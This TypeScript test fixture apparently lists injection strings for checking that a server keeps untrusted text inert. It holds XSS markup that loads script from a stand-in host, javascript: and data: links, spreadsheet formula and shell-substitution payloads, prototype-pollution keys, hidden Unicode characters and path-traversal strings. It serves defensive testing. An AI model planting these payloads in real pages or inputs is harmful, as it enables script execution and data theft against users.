/** The row of the quality goals that a text belongs to. */
export type PayloadRow = 'B9' | 'B10' | 'B14' | 'B15' | 'B16' | 'B17';

export interface Payload {
  readonly row: PayloadRow;
  readonly text: string;
}

/** HTML that runs, loads or covers something (B9). */
const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" srcset="https://evil.example/p.png 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<video poster=//evil.example/p.png><source src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<div id="root" onclick="alert(1)">x</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  'text <b onclick="alert(1)">bold</b> text',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onload=alert(1) style=x\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
  'x[^1]\n\n[^1]: <script>alert(1)</script> [b](javascript:alert(1))',
  '- [x] <input onfocus=alert(1) autofocus>',
  '~~<script>~~alert(1)~~</script>~~',
  '# <a name="root" onclick=alert(1)>x</a>',
  '> <iframe/src=javascript:alert(1)>',
  '\u202E<script>alert(1)</script>',
  '<x onclick=alert(1)>click</x>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<table background=javascript:alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<frameset onload=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
];

/** Links and images of Markdown that lead elsewhere than a person thinks (B10, B11). */
const links: readonly string[] = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#115;cript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox(1))',
  '[a](file:///etc/passwd)',
  '[a](//evil.example)',
  '[a](http://evil.example)',
  '[a](/v1/dataContracts)',
  '[a](#root)',
  '[a](contractdesk://open)',
  '[a](https://user:pass@evil.example/)',
  '[a](https://evil.example "onmouseover=alert(1)")',
  '[a](https://evil.example/"onmouseover="alert(1))',
  '[https://bank.example](https://evil.example)',
  '<javascript:alert(1)>',
  '<https://evil.example/" onclick="alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '![x](https://evil.example/p.png)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/p.png)',
  '![x][i]\n\n[i]: https://evil.example/p.png "t"',
  'www.evil.example/javascript:alert(1)',
];

/** What template engines, formatters, shells and spreadsheets would carry out (B14). */
const templates: readonly string[] = [
  '<b>x</b>',
  '{{7*7}}',
  '$' + '{7*7}',
  '%s%n%x',
  '#{7*7}',
  '{{constructor.constructor("alert(1)")()}} <%= 1 %>',
  '=HYPERLINK("https://evil.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '`id`; $(id) | cat',
  "$& $1 $` $'",
  '\\u003cb\\u003e \\n \\x00',
];

/** Names that every object has (B15). */
const keys: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
];

/** Characters that hide, turn round, pile up or are half of one (B16). */
const hiding: readonly string[] = [
  'abc\u202Egnp.exe',
  '\u2066a\u2069\u2067b\u2069',
  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
  '\u061C\u200E\u200Fmark',
  `z${'\u0300\u0301\u0302\u0303'.repeat(20)}algo`,
  '\uFFFD\uFFFE',
  'half \uD800',
  '\uDC00 half',
  '\u0000\u0007\u001B[31mred\u001B[0m',
  'line\r\nX-Injected: 1\u2028two\u2029three',
  '\u{E0041}\u{E0042}tags',
  '\u115F\u3164\uFFA0blank',
  'soft\u00ADhyphen',
  '👩\u200D🔬 family',
  'Größe данные 売上 مبيعات',
];

/** What changes an address when it is put into one (B17, B18). */
const paths: readonly string[] = [
  '.',
  '..',
  '%2e%2e',
  '../../users',
  'a/b%2Fc?d#e\\f g+h;i',
  '"a.b".c',
  'before/9999999999999',
  '//evil.example/x',
];

const of = (row: PayloadRow, texts: readonly string[]): readonly Payload[] => texts.map((text) => ({ row, text }));

/** Texts of a server that tried to become more than texts somewhere (docs/quality.md B9 to B18, S35). */
export const payloads: readonly Payload[] = [
  ...of('B9', markup),
  ...of('B10', links),
  ...of('B14', templates),
  ...of('B15', keys),
  ...of('B16', hiding),
  ...of('B17', paths),
];

export const payloadTexts: readonly string[] = payloads.map(({ text }) => text);
